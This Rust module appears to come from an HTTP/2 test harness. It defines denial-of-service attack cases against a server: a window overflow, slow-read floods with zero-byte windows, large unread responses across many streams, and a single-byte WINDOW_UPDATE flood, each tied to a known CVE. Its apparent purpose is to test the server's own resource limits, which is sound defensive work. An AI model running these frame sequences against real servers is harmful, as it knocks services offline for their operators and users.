//! Answers that are asked for and not taken.

use bytes::Bytes;
use conformance_wire::frames::{Frame, INITIAL_WINDOW_SIZE, WINDOW_UPDATE};
use http::{Method, Request};
use serde_json::json;

use super::{
    Attack, CHECK, FIELD_BYTES, Form, Means, RUN, STREAM, call, framed, hello, large, large_field,
    small, streams_after,
};
use crate::attacker::{Piece, Reading};

/// The largest window.
const ALL: u32 = (1 << 31) - 1;
/// What the window of a connection is before it is enlarged.
const USUAL: u32 = 65_535;
/// As many streams as a connection may have open.
const MOST_STREAMS: usize = 1000;
/// What a stream takes whose answer is not read, by a note of `spec/memory.md`: 800 MB were
/// needed for 300,000 of them by a server that had no bound.
const STREAM_BYTES: usize = 2600;

pub(super) fn all(form: Form) -> Vec<Attack> {
    let unread = form.share(1).div_ceil(MOST_STREAMS * STREAM_BYTES);
    let fields = form.fields(10) * FIELD_BYTES;
    vec![
        Attack::new("a window that overflows", 4, |_| {
            vec![Piece::once([hello(&[]), enlarged(ALL)].concat())]
        })
        .sends("a WINDOW_UPDATE beyond the largest window, for the connection")
        .that_must_end(),
        Attack::new("fields of 8 MiB with windows of nothing", 10, |means| large_fields(means, 0))
            .sends("signed calls whose answers are long, with windows of 0 bytes")
            .known_as("slow read, CVE-2016-1546")
            .that_fills_by_asking(fields),
        Attack::new("fields of 8 MiB of which nothing is read", 10, |means| {
            large_fields(means, ALL)
        })
        .sends("signed calls whose answers are long, with the largest windows; it reads nothing")
        .known_as("CVE-2019-9517")
        .reading(Reading::Nothing)
        .that_fills_by_asking(fields),
        Attack::new("fields of 8 MiB that are read by bytes", 10, |means| large_fields(means, ALL))
            .sends("the same; it reads 64 bytes now and then")
            .known_as("slow read")
            .reading(Reading::Slowly)
            .that_fills_by_asking(fields),
        Attack::new("TLS: fields of 8 MiB of which nothing is read", 10, |means| {
            large_fields(means, ALL)
        })
        .sends("signed calls by TLS whose answers are long; it reads nothing")
        .known_as("CVE-2019-9517")
        .with_tls()
        .reading(Reading::Nothing)
        .that_fills_by_asking(fields),
        Attack::new("streams of 8 MiB frames of which nothing is read", 10, |means| {
            let frames = json!({"gridSize": 1024, "steps": 1000, "streamInterval": 1});
            let frames = framed(STREAM, &large(frames));
            let begin = [hello(&[(INITIAL_WINDOW_SIZE, ALL)]), enlarged(ALL - USUAL)].concat();
            vec![Piece::once(begin), calls(means, STREAM, &frames, means.form.fields(10))]
        })
        .sends("signed calls of streams whose frames are long; it reads nothing")
        .known_as("CVE-2019-9517")
        .reading(Reading::Nothing)
        .that_fills_by_asking(fields),
        Attack::new("answers to checks of health that are not read", unread, |_| {
            unread_answers(&call(&format!("/{CHECK}")), &framed(CHECK, &json!({})))
        })
        .sends("a thousand checks of health on each connection, with windows of 0 bytes")
        .known_as("slow read, CVE-2016-1546")
        .that_fills_by_asking(MOST_STREAMS * STREAM_BYTES),
        Attack::new("refusals with a body that are not read", unread, |_| {
            let mut get = call("/");
            *get.method_mut() = Method::GET;
            unread_answers(&get, &Bytes::new())
        })
        .sends("a thousand requests of the page on each connection, with windows of 0 bytes")
        .known_as("slow read, CVE-2016-1546")
        .that_fills_by_asking(MOST_STREAMS * STREAM_BYTES),
        Attack::new("answers to calls of a key that are not read", unread, |means| {
            unread_answers(&means.signed(RUN), &small())
        })
        .sends("a thousand small signed calls on each connection, with windows of 0 bytes")
        .known_as("slow read, CVE-2016-1546")
        .that_fills_by_asking(MOST_STREAMS * STREAM_BYTES),
        Attack::new("a field of 8 MiB with windows of single bytes", 4, |means| {
            let byte = Frame::new(WINDOW_UPDATE, 0, 1, 1_u32.to_be_bytes()).bytes();
            vec![
                Piece::once(hello(&[(INITIAL_WINDOW_SIZE, 0)])),
                calls(means, RUN, &large_field(), 1),
                Piece::repeated(byte.repeat(100), 200 * means.form.scale),
            ]
        })
        .sends("a signed call whose answer is long, and a WINDOW_UPDATE for each byte of it")
        .known_as("CVE-2019-9511"),
    ]
}

/// Calls whose fields are together more than a server may have, with windows so wide.
fn large_fields(means: &Means, window: u32) -> Vec<Piece> {
    let wide = if window == ALL { enlarged(ALL - USUAL) } else { Vec::new() };
    let begin = [hello(&[(INITIAL_WINDOW_SIZE, window)]), wide].concat();
    vec![Piece::once(begin), calls(means, RUN, &large_field(), means.form.fields(10))]
}

fn enlarged(by: u32) -> Vec<u8> {
    Frame::new(WINDOW_UPDATE, 0, 0, by.to_be_bytes()).bytes()
}

/// As many calls as a connection may have open, and room for no body of an answer.
fn unread_answers(head: &Request<()>, body: &Bytes) -> Vec<Piece> {
    streams_after(&hello(&[(INITIAL_WINDOW_SIZE, 0)]), MOST_STREAMS, |stream| {
        vec![Frame::head(head, stream), Frame::body(body.clone(), stream)]
    })
}

/// So many calls, on streams from the first one on.
fn calls(means: &Means, method: &str, body: &[u8], count: usize) -> Piece {
    let head = means.signed(method);
    let streams = (0..count as u32).map(|number| 2 * number + 1);
    let frames = streams.flat_map(|stream| [Frame::head(&head, stream), Frame::body(body, stream)]);
    Piece::once(frames.flat_map(|frame| frame.bytes()).collect::<Vec<_>>())
}
